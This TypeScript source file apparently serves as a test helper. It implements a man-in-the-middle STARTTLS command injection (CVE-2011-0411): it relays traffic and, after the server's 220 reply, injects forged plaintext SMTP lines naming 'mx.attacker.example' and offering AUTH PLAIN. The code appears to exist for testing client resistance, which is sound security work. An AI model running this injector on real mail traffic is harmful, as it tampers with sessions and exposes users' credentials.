import type { Socket } from 'node:net';
import type { Endpoint, Network } from '../../net/index.js';

/**
 * Somebody on the path who lets STARTTLS through and, in the same packet as the server's
 * agreement, says in clear what the server has not: a client that keeps it takes it for
 * the answer to its first sealed command (CVE-2011-0411).
 *
 * @param target where the real server is
 */
export function injectAfterStarttls(network: Network, target: Endpoint): (socket: Socket) => void {
  return (client) => {
    void network.dial(target).then((dialled) => {
      if (!dialled.ok) return client.destroy();
      const server = dialled.connection.stream;
      let asked = false;
      client.on('data', (bytes: Buffer) => {
        asked ||= /^STARTTLS\r\n/i.test(bytes.toString('latin1'));
        server.write(bytes);
      });
      server.on('data', (bytes: Buffer) => {
        const agreed = asked && /^220 [^\r]*\r\n$/.test(bytes.toString('latin1'));
        client.write(
          agreed
            ? Buffer.concat([bytes, Buffer.from('250-mx.attacker.example\r\n250 AUTH PLAIN\r\n')])
            : bytes,
        );
      });
      server.on('end', () => client.end()).on('error', () => client.destroy());
      client.on('close', () => dialled.connection.close());
    });
  };
}
